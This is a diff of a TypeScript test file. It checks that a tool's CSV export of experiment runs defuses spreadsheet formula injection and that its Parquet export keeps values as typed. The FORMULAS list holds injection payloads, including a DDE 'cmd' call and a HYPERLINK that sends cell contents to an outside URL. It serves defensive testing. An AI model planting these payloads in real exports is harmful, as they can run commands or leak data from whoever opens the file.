@@ -7,15 +7,16 @@ import { csvOf, runTable } from '../../src/experiments/runTable.ts';
 import { parquetOf } from '../../src/renderer/runs/parquet.ts';
 import { reportOf } from '../../src/renderer/runs/report.ts';
 import { runSummary } from '../experiments/runSummary.ts';
+import { idOf } from '../ids.ts';
 
 const runs = [
   runSummary({
-    id: 'a',
+    id: idOf(1),
     name: 'with "quotes", commas\nand a line',
     settings: { optimizer: 'Adam', learningRate: 0.001, nesterov: true },
     metrics: { 'val.accuracy': 0.9, 'val.loss': Number.NaN },
   }),
-  runSummary({ id: 'b', name: 'plain', settings: { optimizer: 'SGD', learningRate: 0.1 }, metrics: {} }),
+  runSummary({ id: idOf(2), name: 'plain', settings: { optimizer: 'SGD', learningRate: 0.1 }, metrics: {} }),
 ];
 
 /** A reader of RFC 4180 that knows nothing of how it was written. */
@@ -34,10 +35,53 @@ test('CSV comes back as it was, whatever a name holds', () => {
     fc.property(fc.array(fc.string(), { minLength: 1 }), names => {
       const [head, ...rows] = readCsv(csvOf(runTable(names.map(name => runSummary({ name, notes: name })))));
       const at = head!.indexOf('name');
-      expect(rows.map(row => row[at])).toEqual(names);
+      // Made text again where a spreadsheet would compute it.
+      for (const [i, name] of names.entries()) expect([name, `'${name}`]).toContain(rows[i]![at]);
       expect(rows.every(row => row.length === head!.length)).toBe(true);
     }),
   );
+});
+
+const FORMULAS = [
+  '=1+1',
+  '=HYPERLINK("https://example.com?"&A1,"more")',
+  "=cmd|'/c calc'!A0",
+  '+1+cmd',
+  '-2+3+cmd',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '  =1+1',
+  '\u200b=1+1',
+  '\uff1d1+1',
+  '\tindented',
+];
+
+test.each(FORMULAS)('a spreadsheet computes nothing of CSV: %j', text => {
+  const run = runSummary({ name: text, notes: text, tags: [text], settings: { note: text } });
+  const [head, row] = readCsv(csvOf(runTable([run])));
+  for (const column of ['name', 'notes', 'tags', 'settings.note'])
+    expect(row![head!.indexOf(column)]).toBe(`'${text}`);
+});
+
+test('in CSV a negative number stays a number, and words stay as they are', async () => {
+  const settings = { shift: -0.5, tiny: -1e-9, text: '-0.5', plain: 'a=b', dash: 'x-y' };
+  const run = runSummary({ name: "it's", settings, metrics: { 'val.loss': -2 } });
+  const [head, row] = readCsv(csvOf(runTable([run])));
+  const cell = (name: string) => row![head!.indexOf(name)];
+  expect(['shift', 'tiny', 'text', 'plain', 'dash'].map(name => cell(`settings.${name}`))).toEqual([
+    '-0.5',
+    '-1e-9',
+    '-0.5',
+    'a=b',
+    'x-y',
+  ]);
+  expect([cell('name'), cell('metrics.val.loss')]).toEqual(["it's", '-2']);
+  // Parquet has types of its own.
+  const bytes = parquetOf(runTable([runSummary({ name: '=1+1' })]));
+  const [first] = await parquetReadObjects({ file: bytes.buffer as ArrayBuffer });
+  expect(first).toMatchObject({ name: '=1+1' });
 });
 
 test('Parquet has a column for each figure, with types, and what a run lacks is null', async () => {
